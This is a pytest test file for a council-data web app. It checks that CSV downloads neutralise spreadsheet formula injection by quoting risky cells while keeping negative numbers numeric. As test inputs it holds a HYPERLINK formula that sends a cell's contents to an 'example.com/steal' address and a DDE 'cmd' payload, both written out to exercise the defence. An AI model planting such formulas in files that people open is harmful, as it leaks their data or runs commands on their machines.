"""The CSV downloads cannot carry a formula into a spreadsheet (OWASP's CSV injection advice):
a cell beginning with "=", "+", "-", "@", a tab or a carriage return is written with a single
quote in front, and plain numbers, negative ones too, stay numbers."""

import csv
import io
from decimal import Decimal

import pytest

from councils.exports import csv_cell
from tests.support.factories import make_council, make_letter

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://example.com/steal?d="&A1,"Click")'


def rows_of(response) -> list[dict[str, str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Cambridge City Council", "Cambridge City Council"),
        ("a=b", "a=b"),
        ("-3.5", "-3.5"),
        ("+7", "+7"),
        ("-1e3", "-1e3"),
        (-3.5, -3.5),
        (-15, -15),
        (Decimal("-2.25"), Decimal("-2.25")),
        (None, ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_quoted(value, cell):
    assert csv_cell(value) == cell


def test_a_council_named_like_a_formula_is_text_in_the_council_list_csv(client, districts):
    make_letter(
        make_council(official_name=HYPERLINK, short_name=HYPERLINK, slug="hyperlink", region="@x"),
        upheld_count=1,
        investigations=10,
        upheld_percent=10,
    )
    rows = rows_of(client.get("/councils/?_export=csv"))
    row = next(r for r in rows if r["slug"] == "hyperlink")
    assert row["council"] == "'" + HYPERLINK
    assert row["official_name"] == "'" + HYPERLINK
    assert row["region"] == "'@x"
    # No cell of the file begins with a formula character unless it is a plain number.
    for r in rows:
        for name, value in r.items():
            if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert float(value) < 0, (name, value)
    # A council below its type's average keeps a negative number, not text.
    borchester = next(r for r in rows if r["slug"] == "borchester")
    assert float(borchester["difference"]) < 0
    assert not borchester["difference"].startswith("'")


def test_a_council_named_like_a_formula_is_text_in_the_compare_csv(client, districts):
    make_letter(
        make_council(official_name=HYPERLINK, short_name=HYPERLINK, slug="hyperlink"),
        upheld_count=1,
        investigations=10,
        upheld_percent=10,
    )
    rows = rows_of(client.get("/compare/district/2024/?_export=csv"))
    row = next(r for r in rows if r["slug"] == "hyperlink")
    assert row["council"] == "'" + HYPERLINK
    assert float(row["difference"]) < 0 and row["difference"].startswith("-")


def test_the_json_download_keeps_the_name_as_it_is(client, districts):
    make_letter(make_council(official_name=HYPERLINK, short_name=HYPERLINK, slug="hyperlink"))
    rows = client.get("/councils/?_export=json").json()["rows"]
    assert next(r for r in rows if r["slug"] == "hyperlink")["council"] == HYPERLINK
